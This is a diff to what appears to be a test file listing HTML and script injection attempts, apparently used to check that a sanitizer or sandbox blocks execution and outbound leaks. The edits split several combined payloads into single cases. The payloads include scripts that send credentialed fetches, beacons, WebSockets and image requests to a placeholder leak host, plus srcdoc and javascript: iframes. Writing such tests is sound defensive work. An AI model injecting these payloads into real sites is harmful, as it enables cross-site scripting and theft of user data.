@@ -8,10 +8,11 @@ ATTEMPTS = """
 <script src="data:text/javascript,document.documentElement.dataset.ran='data'"></script>
 <script>fetch("{app}/?leak=fetch", {{credentials: "include"}}); navigator.sendBeacon("{leak}/beacon", "x")</script>
 <script>new Image().src = "{leak}/image"; new WebSocket("{leak}/ws".replace("http", "ws")); open("{leak}/open")</script>
-<script>navigator.serviceWorker.register("/leak-worker.js"); top.location = "{app}/?leak=top"; parent.leaked = 1</script>
+<script>navigator.serviceWorker.register("/leak-worker.js"); top.location = "{app}/?leak=top"</script>
 <script>location = "{app}/?leak=self"; document.cookie = "leak=1"; localStorage.leak = 1</script>
 <script type="speculationrules">{{"prefetch": [{{"urls": ["{leak}/speculation"]}}]}}</script>
-<svg onload="document.documentElement.dataset.ran='svg'"><script>document.documentElement.dataset.ran='svg'</script></svg>
+<svg onload="document.documentElement.dataset.ran='svg'"></svg>
+<svg><script>document.documentElement.dataset.ran='svg-script'</script></svg>
 <img src="{leak}/img" onerror="document.documentElement.dataset.ran='onerror'">
 <img srcset="{leak}/srcset 1x, {leak}/srcset2 2x" src="data:,x">
 <picture><source srcset="{leak}/picture"><img alt="图"></picture>
@@ -23,7 +24,8 @@ ATTEMPTS = """
 <video><source src="{leak}/source"><track src="{leak}/track" default kind="subtitles"></video>
 <iframe src="{leak}/iframe"></iframe>
 <iframe src="{app}/?leak=app-iframe"></iframe>
-<iframe srcdoc="<script>parent.document.documentElement.dataset.ran='srcdoc'</script><img src='{leak}/srcdoc'>"></iframe>
+<iframe srcdoc="<script>parent.document.documentElement.dataset.ran='srcdoc'</script>"></iframe>
+<iframe srcdoc="<img src='{leak}/srcdoc'>"></iframe>
 <iframe src="javascript:parent.document.documentElement.dataset.ran='js-url'"></iframe>
 <iframe src="data:text/html,<img src='{leak}/data-iframe'>"></iframe>
 <object data="{leak}/object"></object>
